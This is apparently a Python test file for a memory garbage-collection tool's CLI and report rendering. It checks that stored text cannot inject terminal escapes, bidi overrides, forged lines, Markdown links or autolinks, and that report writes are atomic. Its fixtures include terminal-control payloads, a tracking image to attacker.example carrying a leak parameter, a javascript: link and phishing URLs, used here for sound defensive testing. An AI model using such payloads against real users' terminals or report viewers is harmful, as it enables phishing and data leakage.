"""What reports and the CLI show people: store text is shown, never interpreted — no terminal
control or bidi characters, no Markdown links or images, no forged lines (cases a review
reproduced; each failed before its fix)."""

from __future__ import annotations

import contextlib
import json
import re
import resource
import signal
from uuid import UUID

import pytest

from gc_worker import render
from gc_worker.cli import main
from gc_worker.commands import summary_line
from gc_worker.render_facts import NOTHING_TO_DO
from gc_worker.report import build_report
from tests.store import NOW, add, days_ago, execute, run

NOW_ARG = NOW.isoformat()


def _run_id(out: str) -> str:
    return out.split("run ", 1)[1].split(" ", 1)[0]


HOSTILE = (
    "Diet: vegan\n    00000000-0000-4000-8000-000000000000  [active]  forged member line"
    "\x1b[2K\x1b]0;owned\x07\x1b[31mRED\u202egnp.exe"
)
_UNSAFE = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")


class TestControlCharactersInCliOutput:
    def test_reviews_list_cannot_be_forged_or_drive_the_terminal(self, engine, cli_env, capsys):
        """`reviews list` prints left(content, 200) raw: a memory's text adds lines that look
        like members of the item (a fake id an operator may pass to --keep) and sends ESC
        sequences (set title, erase line, colours) and bidi overrides to the operator's terminal."""
        add(engine, "u1", "Diet: vegetarian", slot="diet", created_at=days_ago(90))
        add(engine, "u1", HOSTILE, slot="diet", created_at=days_ago(1), source="model_inference")
        assert main(["run", "--job", "contradiction", "--now", NOW_ARG]) == 0
        capsys.readouterr()
        assert main(["reviews", "list"]) == 0
        out = capsys.readouterr().out
        assert len(out.splitlines()) == 3, out  # one head line, one line per member (2)
        assert not _UNSAFE.search(out), repr(out)

    def test_markdown_report_on_stdout_carries_no_terminal_escapes(self, engine, cli_env, capsys):
        """`memory-gc report RUN --format md` (to a terminal) passes ESC sequences and bidi
        overrides from memory content through unchanged (HTML is a file; JSON: next test)."""
        add(engine, "u1", HOSTILE, expires_at=days_ago(1))
        assert main(["run", "--job", "ttl_expiry", "--now", NOW_ARG]) == 0
        run_id = _run_id(capsys.readouterr().out)
        assert main(["report", run_id, "--format", "md"]) == 0
        md = capsys.readouterr().out
        assert "forged member line" in md  # the content preview is there
        assert not _UNSAFE.search(md), repr(_UNSAFE.findall(md))

    def test_json_report_on_stdout_carries_no_terminal_controls(self, engine, cli_env, capsys):
        """`memory-gc report RUN` (JSON, the default, to a terminal): json.dumps escapes only
        \\x00-\\x1f, so bidi overrides, the Arabic letter mark, C1 controls (\\x9b is CSI)
        and DEL from memory content reached the terminal raw. They come out as \\uXXXX
        escapes, and the JSON parses back to the same text."""
        content = HOSTILE + " \u061c\x9b31m\x85\x7f\u200f\u2067"
        add(engine, "u1", content, expires_at=days_ago(1))
        assert main(["run", "--job", "ttl_expiry", "--now", NOW_ARG]) == 0
        run_id = _run_id(capsys.readouterr().out)
        assert main(["report", run_id]) == 0
        out = capsys.readouterr().out
        assert not _UNSAFE.search(out), repr(_UNSAFE.findall(out))
        assert json.loads(out)["actions"][0]["details"]["content"] == content


class TestMarkdownInjection:
    def test_content_cannot_make_links_or_remote_images(self, engine, settings):
        """Markdown escapes only `|`, newlines and angle brackets: a memory's text becomes a live
        remote image (fetched when the report is opened in any Markdown viewer: a tracking
        pixel, an exfiltration URL) and a clickable javascript:/phishing link in the report."""
        hostile = ("![pixel](https://attacker.example/p.png?leak=1) "
                   "[open the admin console](javascript:alert(document.domain))")  # fmt: skip
        add(engine, "u1", hostile, expires_at=days_ago(1))
        report = run(engine, settings, jobs=["ttl_expiry"])
        md = render.render(report, "md")
        assert "attacker.example" in md  # the preview is shown…
        assert not re.search(r"(?<!\\)!?(?<!\\)\[[^\]]*(?<!\\)\]\(", md), md  # …but no link/image

    def test_bare_urls_do_not_become_links(self, engine, settings):
        """GitHub-flavoured Markdown links a bare ``https://…`` or ``www.…`` by itself (its
        extended autolinks): a memory's phishing URL was a clickable link in the report. The
        ':' after a scheme and the '.' after www are escaped — GFM needs "scheme://" and "www."
        literally — and the viewer shows the text as it was."""
        hostile = (
            "Login again at https://evil.example/reset, FTP://evil.example or www.evil.example"
        )
        add(engine, "u1", hostile, expires_at=days_ago(1))
        report = run(engine, settings, jobs=["ttl_expiry"])
        md = render.render(report, "md")
        assert "evil.example/reset" in md  # the preview is shown…
        assert not re.search(r"(?i)(?:https?|ftp)://", md), md  # …but GFM links none of it
        assert not re.search(r"(?i)(?<![a-z0-9\\])www\.", md), md
        assert r"https\://evil.example/reset" in md and r"www\.evil.example" in md


@contextlib.contextmanager
def _file_size_limit(limit: int):
    """Writes past ``limit`` bytes fail with EFBIG (a full disk or quota, reproducibly)."""
    soft, hard = resource.getrlimit(resource.RLIMIT_FSIZE)
    previous = signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    resource.setrlimit(resource.RLIMIT_FSIZE, (limit, hard))
    try:
        yield
    finally:
        resource.setrlimit(resource.RLIMIT_FSIZE, (soft, hard))
        signal.signal(signal.SIGXFSZ, previous)


def _seed_many(engine, n: int = 80) -> None:
    for i in range(n):
        add(engine, f"user-{i % 7}", f"expired fact number {i} " + "x" * 150,
            expires_at=days_ago(1))  # fmt: skip


class TestReportFilesAreAtomic:
    LIMIT = 16_384

    def test_run_report_is_never_left_half_written(self, engine, cli_env, tmp_path, capsys):
        """`run --report` writes the file in place: when the write fails part-way (disk full,
        quota) a truncated, unparseable JSON file stays at PATH."""
        _seed_many(engine)
        path = tmp_path / "plan.json"
        with _file_size_limit(self.LIMIT):
            code = main(["run", "--dry-run", "--now", NOW_ARG, "--report", str(path)])
        capsys.readouterr()
        assert code == 1  # "the run is done but its report could not be written"
        if path.exists():  # nothing, or a whole report: never half of one
            json.loads(path.read_text())

    def test_report_output_keeps_the_previous_file_and_fails_in_one_line(
        self, engine, cli_env, tmp_path, capsys
    ):
        """`report RUN --output PATH` over an existing report: a failing write truncates the
        good file, and the OSError escapes main() as a traceback instead of one line + exit 1."""
        _seed_many(engine)
        path = tmp_path / "plan.json"
        assert main(["run", "--dry-run", "--now", NOW_ARG, "--report", str(path)]) == 0
        run_id = _run_id(capsys.readouterr().out)
        good = path.read_text()
        assert len(good.encode()) > self.LIMIT
        with _file_size_limit(self.LIMIT):
            try:
                code = main(["report", run_id, "--output", str(path)])
            except OSError as exc:  # escaped main(): the user sees a traceback
                code = f"traceback: {exc!r}"
        err = capsys.readouterr().err
        assert code == 1 and err.count("\n") == 1, (code, err)
        assert path.read_text() == good, f"previous report clobbered ({path.stat().st_size} B)"


def test_a_report_rewritten_keeps_its_permissions_and_leaves_no_temporary_file(tmp_path):
    """The whole-or-nothing write renames a temporary file over the report: the report keeps
    the mode it had (a new one gets 0666 less the umask, as before), and nothing is left
    beside it, also when the write fails."""
    import os
    import stat

    from gc_worker.report import write_whole

    path = tmp_path / "plan.md"
    write_whole(path, "first")
    umask = os.umask(0o022)
    os.umask(umask)
    assert stat.S_IMODE(path.stat().st_mode) == 0o666 & ~umask
    path.chmod(0o640)
    write_whole(path, "second")
    assert path.read_text() == "second" and stat.S_IMODE(path.stat().st_mode) == 0o640
    with _file_size_limit(8), contextlib.suppress(OSError):
        write_whole(path, "x" * 64)
    assert path.read_text() == "second"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["plan.md"]


def _apply_all_drifted(engine, capsys) -> tuple[UUID, str]:
    """(the memory, apply's output): a dry run plans to expire a memory; the application edits
    it before the apply, so the apply skips it (drifted) and applies nothing."""
    expired = add(engine, "u1", "expired fact", expires_at=days_ago(1))
    assert main(["run", "--dry-run", "--job", "ttl_expiry", "--now", NOW_ARG]) == 0
    plan_id = _run_id(capsys.readouterr().out)
    execute(engine, "UPDATE memories SET content = 'edited by the app' WHERE id = :id",
            id=expired)  # fmt: skip
    assert main(["apply", plan_id]) == 0
    return expired, capsys.readouterr().out


class TestOnlyDriftedRun:
    def test_markdown_and_html_do_not_say_nothing_to_do(self, engine, cli_env, capsys):
        """An apply whose every action drifted: the JSON lists the drifted row; Markdown and
        HTML claimed that no memory needed a change and never named the skipped row."""
        expired, out = _apply_all_drifted(engine, capsys)
        assert "1 drifted" in out  # the summary line knows
        apply_id = _run_id(out)
        with engine.connect() as conn:
            report = build_report(conn, apply_id)
        assert [a["memory_id"] for a in report["drifted"]] == [str(expired)]
        for fmt in ("md", "html"):
            text = render.render(report, fmt)
            assert NOTHING_TO_DO not in text, fmt  # false: a change was needed, skipped
            assert str(expired)[:8] in text, fmt  # the skipped memory is named somewhere

    def test_the_summary_line_does_not_say_nothing_to_do(self, engine, cli_env, capsys):
        """apply's summary line of the same run said "nothing to do; 1 drifted (skipped)": there
        was work, skipped. It says nothing was applied; a run with no work at all still says
        "nothing to do"."""
        _, out = _apply_all_drifted(engine, capsys)
        [line] = [line for line in out.splitlines() if line.startswith("run ")]
        assert line.endswith("(apply, completed): nothing applied; 1 drifted (skipped)"), line
        idle = {"run_id": "r", "mode": "apply", "status": "completed", "totals": {"by_action": {}}}
        assert summary_line(idle) == "run r (apply, completed): nothing to do"


class TestRestoredApplyRun:
    def test_banner_does_not_suggest_a_restore_that_is_refused(self, engine, cli_env, capsys):
        """After `restore --run APPLY`, the apply run's report still tells the operator to run
        `memory-gc restore --run APPLY` — which is then refused (exit 2, "already restored").
        README: the banner "suggests only a command that works for it"."""
        add(engine, "u1", "expired fact", expires_at=days_ago(1))
        assert main(["run", "--job", "ttl_expiry", "--now", NOW_ARG]) == 0
        apply_id = _run_id(capsys.readouterr().out)
        assert main(["restore", "--run", apply_id]) == 0
        assert "1 restored" in capsys.readouterr().out

        assert main(["report", apply_id, "--format", "md"]) == 0
        md = capsys.readouterr().out
        suggested = re.findall(r"`memory-gc (restore --run \S+)`", md)
        for command in suggested:  # every command the report suggests must work
            code = main(command.split())
            err = capsys.readouterr().err
            assert code == 0, f"report suggests `memory-gc {command}`; it exits {code}: {err}"


class TestRestoreRunReport:
    CONTRACT_JOB_KEYS = {"actions", "by_action", "skipped", "errors", "llm_calls"}

    def test_jobs_section_follows_the_contract(self, engine, cli_env, capsys):
        """A restore run stores jobs = [] and has no batches: its report's `jobs` entries are
        made up from the actions with only actions/by_action/skipped — `errors` and
        `llm_calls` (DESIGN.md §5) are missing, and scope.jobs ([]) does not name the job
        that `jobs` and `actions` report on."""
        add(engine, "u1", "expired fact", expires_at=days_ago(1))
        assert main(["run", "--job", "ttl_expiry", "--now", NOW_ARG]) == 0
        apply_id = _run_id(capsys.readouterr().out)
        assert main(["restore", "--run", apply_id]) == 0
        restore_id = capsys.readouterr().out.split("restore run ", 1)[1].split(":", 1)[0]
        assert main(["report", restore_id]) == 0
        report = json.loads(capsys.readouterr().out)
        assert report["kind"] == "restore" and report["totals"]["actions"] == 1
        for name, job in report["jobs"].items():
            assert set(job) >= self.CONTRACT_JOB_KEYS, (name, job)
        assert set(report["jobs"]) <= set(report["scope"]["jobs"]), report["scope"]


class TestDriftedSample:
    def test_counts_without_actions_hold_only_a_sample_of_drifted_rows(
        self, engine, cli_env, capsys
    ):
        """build_report(actions=False) (apply's summary line, prune-history's figures) held
        every drifted row with its content preview: an apply after the application changed
        100,000 planned rows held them all. It holds DRIFTED_SAMPLE of them and the count;
        the full report still lists every one."""
        from gc_worker.report import DRIFTED_SAMPLE, recorded_figures

        n = DRIFTED_SAMPLE + 5
        for i in range(n):
            add(engine, "u1", f"expired fact {i}", expires_at=days_ago(1))
        assert main(["run", "--dry-run", "--job", "ttl_expiry", "--now", NOW_ARG]) == 0
        plan_id = _run_id(capsys.readouterr().out)
        execute(engine, "UPDATE memories SET content = content || ' (edited)'")
        assert main(["apply", plan_id]) == 0
        out = capsys.readouterr().out
        assert f"nothing applied; {n} drifted (skipped)" in out, out
        apply_id = UUID(_run_id(out))
        with engine.connect() as conn:
            counts = build_report(conn, apply_id, actions=False)
            full = build_report(conn, apply_id)
            figures = recorded_figures(conn, apply_id)
        assert len(counts["drifted"]) == DRIFTED_SAMPLE and counts["drifted_count"] == n
        assert len(full["drifted"]) == n and "drifted_count" not in full  # JSON shape kept
        assert figures["drifted"] == n and summary_line(counts).endswith(f"{n} drifted (skipped)")
        for fmt in ("md", "html"):  # a sample says how many more, as the full report does
            assert f"and {n - 20:,} more drifted" in render.render(counts, fmt), fmt

    @pytest.mark.parametrize("extra", [0, 1])
    def test_the_sample_boundary(self, engine, cli_env, capsys, extra):
        """Exactly DRIFTED_SAMPLE drifted rows are all held; one more is counted, not held."""
        from gc_worker.report import DRIFTED_SAMPLE

        n = DRIFTED_SAMPLE + extra
        for i in range(n):
            add(engine, "u1", f"expired fact {i}", expires_at=days_ago(1))
        assert main(["run", "--dry-run", "--job", "ttl_expiry", "--now", NOW_ARG]) == 0
        plan_id = _run_id(capsys.readouterr().out)
        execute(engine, "UPDATE memories SET content = content || ' (edited)'")
        assert main(["apply", plan_id]) == 0
        apply_id = UUID(_run_id(capsys.readouterr().out))
        with engine.connect() as conn:
            counts = build_report(conn, apply_id, actions=False)
        assert len(counts["drifted"]) == DRIFTED_SAMPLE and counts["drifted_count"] == n
        assert ("1 more drifted" in render.render(counts, "md")) is (extra == 1)
